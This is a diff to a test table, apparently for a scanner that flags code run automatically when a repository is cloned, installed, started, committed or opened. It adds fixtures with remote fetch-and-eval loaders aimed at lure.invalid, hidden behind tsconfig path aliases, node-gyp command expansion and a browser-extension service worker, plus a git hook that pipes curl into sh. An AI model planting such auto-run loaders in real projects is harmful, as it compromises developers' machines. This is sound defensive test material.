@@ -154,6 +154,11 @@ rows! {
         ("package.json", r#"{"scripts":{"dev":"vite"}}"#),
         ("index.html", "<!doctype html><html><body><script type=\"module\" src=\"/src/main.ts\"></script></body></html>\n"),
         ("src/main.ts", "fetch('https://lure.invalid/x').then((r) => r.text()).then((t) => eval(t));\n");
+    "what a tsconfig says of built files and names": "npm-start" at "start", "node server-out/main.js" => Block names "code/auth/load.ts";
+        ("package.json", r#"{"scripts":{"start":"node server-out/main.js"}}"#),
+        ("tsconfig.json", r#"{"compilerOptions":{"outDir":"./server-out","rootDir":"./code","baseUrl":".","paths":{"@auth/*":["code/auth/*"]}}}"#),
+        ("code/main.ts", "import '@auth/load';\n"),
+        ("code/auth/load.ts", "import https from 'https';\nhttps.get('https://lure.invalid/x', (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => eval(b)); });\n");
     "the configuration of a bundler": "npm-start" at "start", "vite" => Block names "vite.config.mjs";
         ("package.json", r#"{"scripts":{"dev":"vite"}}"#),
         ("vite.config.mjs", "export default {};\nfetch('https://lure.invalid/x').then((r) => r.text()).then((t) => eval(t));\n");
@@ -190,14 +195,25 @@ rows! {
         ("package.json", r#"{"dependencies":{"left":"git+https://git.example.test/left.git"}}"#);
     "a command in place of the system's": "package-bin-shadow" at "install", "b.js" => Block names "b.js";
         ("package.json", r#"{"name":"x","bin":{"git":"b.js"}}"#), ("b.js", "LOADER");
+    "a command that node-gyp expands": "node-gyp" at "install", "node gyp.js" => Block names "gyp.js";
+        ("binding.gyp", "{ 'targets': [{ 'target_name': 'a', 'sources': [ '<!(node gyp.js)' ] }] }\n"), ("gyp.js", "LOADER");
+    "an honest native addon": "node-gyp" at "install", "node-addon-api" => Pass;
+        ("binding.gyp", "{ 'targets': [{ 'target_name': 'a', 'include_dirs': [ \"<!(node -p \\\"require('node-addon-api').include\\\")\" ] }] }\n");
+    "a browser extension": "web-extension" at "start", "bg.js" => Block names "bg.js";
+        ("manifest.json", r#"{"manifest_version":3,"name":"x","background":{"service_worker":"bg.js"}}"#),
+        ("bg.js", "fetch('https://lure.invalid/x').then((r) => r.text()).then((t) => eval(t));\n");
+    "a requirement from an address": "python-requirement" at "install", "git+" => Pass;
+        ("requirements.txt", "requests==2.32.0\ngit+https://git.example.test/a.git\n");
+    "a submodule": "git-submodule" at "clone", "vendor" => Pass;
+        (".gitmodules", "[submodule \"vendor\"]\n\tpath = vendor\n\turl = https://git.example.test/vendor.git\n"), ("a.js", QUIET);
     "a hook of husky": "git-hook-commit" at "commit", "" => Block names "h.js";
         (".husky/pre-commit", "node h.js\n"), ("h.js", "LOADER");
     "an honest hook of husky": "git-hook-commit" at "commit", "" => Pass;
         (".husky/pre-commit", "npx lint-staged\n"),
         ("package.json", r#"{"scripts":{"prepare":"husky"},"lint-staged":{"*.js":"eslint --fix"}}"#);
     "hooks of a folder that a task makes active": "vscode-task-folder-open" at "open", "core.hooksPath" => Block names "k.js";
-        (".vscode/tasks.json", r#"{"tasks":[{"label":"a","command":"git config core.hooksPath .github","runOptions":{"runOn":"folderOpen"}}]}"#),
-        (".github/post-checkout", "#!/bin/sh\nnode k.js\n"), ("k.js", "LOADER");
+        (".vscode/tasks.json", r#"{"tasks":[{"label":"a","command":"git config core.hooksPath .tools","runOptions":{"runOn":"folderOpen"}}]}"#),
+        (".tools/post-checkout", "#!/bin/sh\nnode k.js\n"), ("k.js", "LOADER");
     "a hook inside the handed-over .git": "git-hook-checkout" at "clone", "" => Block names ".git/hooks/post-checkout";
         (".git/hooks/post-checkout", "#!/bin/sh\ncurl -s https://lure.invalid/x | sh\n"), (".git/HEAD", "ref: refs/heads/main\n"), ("a.js", QUIET);
     "a monitor in git's configuration": "git-config-status" at "open", "node f.js" => Block names "f.js";
